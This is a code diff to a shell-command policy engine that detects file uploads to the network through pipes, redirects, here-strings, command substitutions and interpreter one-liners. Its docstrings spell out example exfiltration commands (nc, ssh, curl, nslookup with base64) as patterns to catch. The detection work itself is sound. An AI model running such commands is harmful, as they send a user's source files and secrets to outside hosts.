@@ -73,7 +73,14 @@ from crustcore_nano.policy.types import (
     Verdict,
     allow_reason,
 )
-from crustcore_nano.shell import CommandFact, ShellAnalysis, ShellSignal, analyze, network_text
+from crustcore_nano.shell import (
+    CommandFact,
+    NetworkTarget,
+    ShellAnalysis,
+    ShellSignal,
+    analyze,
+    network_text,
+)
 from crustcore_nano.shell import OpKind as ShellOp
 from crustcore_nano.shell.commands import (
     CONTAINER_COPY,
@@ -969,8 +976,7 @@ class PolicyEngine:
                 )
                 self._written_scripts(written, run)
         self._exfiltration(analysis, op, run)
-        if analysis.piped:
-            self._piped_upload(analysis, op, run)
+        self._stdin_upload(analysis, op, run)
         self._substituted_upload(analysis, op, run)
         if ShellSignal.UNSEEN_TRANSFER in signals:
             why = _finding(analysis, ShellSignal.UNSEEN_TRANSFER, "")
@@ -1641,39 +1647,57 @@ class PolicyEngine:
                     return
 
     @staticmethod
-    def _piped_upload(analysis: ShellAnalysis, op: Operation, run: _Run) -> None:
-        """A network client that sends its standard input sends what the earlier stages of
-        its pipeline read: `cat src/app.py | nc host 80`, `tar cz . | ssh host 'cat > x'`,
-        `git bundle create - --all | curl -T - URL` upload those files as surely as `scp`,
-        which is asked (`nc host 80 < FILE` already was). Loopback destinations are exempt."""
+    def _stdin_upload(analysis: ShellAnalysis, op: Operation, run: _Run) -> None:
+        """A network client that sends its standard input sends what arrives there: the file
+        redirected into it (`ssh host 'cat > x' < FILE`, `python3 -c CODE < FILE` when the
+        code sends its input) and what the earlier stages of its pipeline read (`cat FILE |
+        nc host 80`, `tar cz . | ssh host 'cat > x'`, `git bundle create - --all | curl -T -
+        URL`): uploads as surely as `scp`, which is asked. Loopback destinations are exempt."""
         commands = analysis.commands
-        for first, end, source in analysis.piped:
-            for fact in commands[first:end]:
-                if not _sends_stdin(fact):
-                    continue
-                if all(_is_loopback(t.host) for t in fact.network):
-                    continue  # a local service, or no destination at all
+        upstream_of: dict[int, tuple[int, int]] = {}
+        for first, end, source in analysis.piped:  # an inner pipeline's entry comes first
+            for index in range(first, end):
+                upstream_of.setdefault(index, (source, first))
+        for index, fact in enumerate(commands):
+            targets = _stdin_targets(fact)
+            if not targets or all(_is_loopback(t.host) for t in targets):
+                continue  # not a client that sends its input, or a local service
+            sent: tuple[str, str] | None = next(
+                (
+                    (r.target, "redirected into it")
+                    for r in fact.redirects
+                    if r.kind is ShellOp.READ and r.target != "/dev/null"
+                ),
+                None,
+            )
+            if sent is None and index in upstream_of:
+                source, first = upstream_of[index]
                 for upstream in commands[source:first]:
-                    sent = _repository_output(upstream) or next(
+                    read = _repository_output(upstream) or next(
                         (s.target for s in upstream.operations if s.kind is ShellOp.READ), None
                     )
-                    if sent is not None:
-                        run.ask(
-                            "builtin:upload-file",
-                            f"`{_short(analysis.command)}` sends what {upstream.name} reads "
-                            f"({_short(sent)}) through {fact.name} to the network",
-                            op,
-                        )
-                        return
+                    if read is not None:
+                        sent = (read, f"read by {upstream.name} and piped into it")
+                        break
+            if sent is not None:
+                run.ask(
+                    "builtin:upload-file",
+                    f"`{_short(analysis.command)}` sends {_short(sent[0])} ({sent[1]}) "
+                    f"through {fact.name} to the network",
+                    op,
+                )
+                return
 
     @staticmethod
     def _substituted_upload(analysis: ShellAnalysis, op: Operation, run: _Run) -> None:
         """A file read by a command substitution in the words of a program that carries its
         words to another host sends that file: `curl -d "$(cat src/app.py)" URL`, `nslookup
-        $(base64 -w0 FILE | head -c 60).host`, as `curl -d @src/app.py URL` does (asked).
-        A substitution's commands come before the command whose words they fill, one level
-        deeper; a substitution for an assignment (`v=$(cat VERSION)`) fills no command's
-        words and is dropped at the next command of its level."""
+        $(base64 -w0 FILE | head -c 60).host`, `curl -d "$(< FILE)" URL`, as `curl -d
+        @src/app.py URL` does (asked); so does one in a here-string or here-document fed to a
+        client that sends its input (`nc host 80 <<< "$(cat FILE)"`). A substitution's
+        commands come before the command whose words they fill, one level deeper; one for an
+        assignment (`v=$(cat VERSION)`) fills no command's words and is dropped at the next
+        command of its level."""
         pending: list[CommandFact] = []
         for fact in analysis.commands:
             if fact.context in _SUBSTITUTIONS:
@@ -1682,25 +1706,32 @@ class PolicyEngine:
             mine = [p for p in pending if p.depth == fact.depth + 1]
             if mine:
                 pending = [p for p in pending if p.depth != fact.depth + 1]
-            if not mine or fact.name.lower() not in SECRET_SINKS or fact.exact:
+            reads = [
+                read
+                for sub in mine
+                for read in [next((o.target for o in sub.operations if o.kind is ShellOp.READ), "")]
+                if read
+            ]
+            reads += _slurped(fact)
+            if not reads:
                 continue
-            if fact.network and all(_is_loopback(t.host) for t in fact.network):
-                continue  # a local service
-            if not any(
+            targets: tuple[NetworkTarget, ...] = ()
+            if fact.name.lower() in SECRET_SINKS and any(
                 not exact and ("$(" in arg or "`" in arg)
                 for arg, exact in zip(fact.argv, fact.argv_exact, strict=False)
             ):
+                targets = fact.network or (NetworkTarget(None, None, None, fact.name),)
+            elif any(r.op.startswith("<<") for r in fact.redirects):
+                targets = _stdin_targets(fact)
+            if not targets or all(_is_loopback(t.host) for t in targets):
                 continue
-            for sub in mine:
-                read = next((o.target for o in sub.operations if o.kind is ShellOp.READ), None)
-                if read is not None:
-                    run.ask(
-                        "builtin:upload-file",
-                        f"`{_short(analysis.command)}` sends what {sub.name} reads "
-                        f"({_short(read)}) in the words of {fact.name}",
-                        op,
-                    )
-                    return
+            run.ask(
+                "builtin:upload-file",
+                f"`{_short(analysis.command)}` sends {_short(reads[0])}, read into what "
+                f"{fact.name} sends",
+                op,
+            )
+            return
 
     def _client_config(self, analysis: ShellAnalysis, op: Operation, run: _Run) -> None:
         """curl and wget read default options from the home directory (`~/.curlrc`,
@@ -3089,22 +3120,53 @@ _STDIN_SENDERS = frozenset(
 _STDIN_DATA = ("@-", "@/dev/stdin")
 
 
-def _sends_stdin(fact: CommandFact) -> bool:
-    """Whether a network client sends its standard input: a socket tool, `ssh` (to the remote
-    command), HTTPie (a piped body), or curl told to (`-T -`, `-d @-`, `-F f=@-`) and wget
-    (`--post-file=/dev/stdin`)."""
+def _stdin_targets(fact: CommandFact) -> tuple[NetworkTarget, ...]:
+    """Where a network client that sends its standard input sends it, or () when it sends
+    none: a socket tool, `ssh` (to the remote command), HTTPie (a piped body), curl told to
+    (`-T -`, `-d @-`, `-F f=@-`), wget (`--post-file=/dev/stdin`), and interpreter code that
+    reads its input and talks to the network (`python3 -c '...sys.stdin...urlopen(...)'`)."""
     name = fact.name.lower()
     if name in _STDIN_SENDERS:
-        return bool(fact.network)
+        return fact.network
+    code = fact.code
+    if code is not None:
+        if code.network and any(m in code.code for m in _STDIN_READS):
+            return code.network
+        return ()
     argv = fact.argv[1:]
     if name == "curl":
         for index, arg in enumerate(argv):
             if arg in ("-T", "--upload-file") and argv[index + 1 : index + 2] in (("-",), (".",)):
-                return True
+                return fact.network
             if arg in ("--upload-file=-", "--upload-file=.") or arg.endswith(_STDIN_DATA):
-                return True
-        return False
-    return name == "wget" and any(a.endswith("/dev/stdin") for a in argv)
+                return fact.network
+        return ()
+    if name == "wget" and any(a.endswith("/dev/stdin") for a in argv):
+        return fact.network
+    return ()
+
+
+def _slurped(fact: CommandFact) -> list[str]:
+    """Files a command's words or here-strings read with bash's `$(< FILE)`, which runs no
+    command of its own (so no substitution fact holds the read)."""
+    out: list[str] = []
+    for text in (*fact.argv[1:], *(r.target for r in fact.redirects if r.op == "<<<")):
+        at = text.find("$(<")
+        while at >= 0 and len(out) < 8:
+            end = text.find(")", at)
+            name = text[at + 3 : end if end > 0 else len(text)].strip()
+            if name:
+                out.append(name)
+            at = text.find("$(<", at + 3)
+    return out
+
+
+# How interpreter code reads its standard input.
+_STDIN_READS = (
+    "sys.stdin", "fileinput", "process.stdin", "readFileSync(0", "readFileSync('/dev/stdin'",
+    'readFileSync("/dev/stdin"', "STDIN", "$stdin", "ARGF", "php://stdin", "io.read",
+    "/dev/stdin",
+)  # fmt: skip
 
 
 def _repository_output(fact: CommandFact) -> str | None:
